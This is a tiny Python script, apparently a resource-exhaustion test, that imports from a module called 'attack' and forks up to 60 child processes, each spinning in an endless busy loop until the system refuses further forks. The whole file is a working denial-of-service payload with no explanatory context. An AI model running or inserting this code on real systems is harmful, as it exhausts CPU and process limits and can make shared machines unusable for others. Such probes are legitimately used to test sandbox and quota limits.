import os

from attack import *

for _ in range(60):
    try:
        if not os.fork():
            while True:
                pass
    except OSError:
        break
